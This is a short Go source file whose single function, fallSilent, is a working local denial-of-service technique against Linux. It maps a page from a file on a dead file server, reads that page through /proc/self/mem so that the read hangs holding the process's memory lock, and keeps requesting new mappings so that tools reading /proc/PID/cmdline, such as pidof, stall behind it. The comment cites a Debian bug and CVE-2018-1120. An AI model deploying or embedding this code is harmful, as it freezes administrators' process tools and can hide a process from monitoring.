package main

import (
	"fmt"
	"os"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// fallSilent lets everybody wait who reads /proc/PID/cmdline, as pidof had to in Debian #719273. The memory of a process
// has one lock (mmap_lock). A read of /proc/PID/mem holds it while it waits for a page of a dead file server; whoever
// wants to map something then waits for the read, and who comes later, as the reader of cmdline, behind both.
// Since CVE-2018-1120 a page of the arguments themselves cannot make anybody wait.
func fallSilent(deadFile string) error {
	file, err := unix.Open(deadFile, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var stat unix.Stat_t
	if err := unix.Fstat(file, &stat); err != nil { // the kernel asks for the size
		return err
	}
	page, err := unix.Mmap(file, 0, os.Getpagesize(), unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return fmt.Errorf("mmap: %w", err)
	}
	memory, err := os.Open("/proc/self/mem")
	if err != nil {
		return err
	}
	address := int64(uintptr(unsafe.Pointer(unsafe.SliceData(page))))
	go func() { _, _ = memory.ReadAt(make([]byte, 1), address) }() // does not return
	go func() {
		for { // until it does not return
			extra, err := unix.Mmap(-1, 0, os.Getpagesize(), unix.PROT_NONE, unix.MAP_PRIVATE|unix.MAP_ANON)
			if err == nil {
				_ = unix.Munmap(extra)
			}
			time.Sleep(time.Millisecond)
		}
	}()
	return nil
}
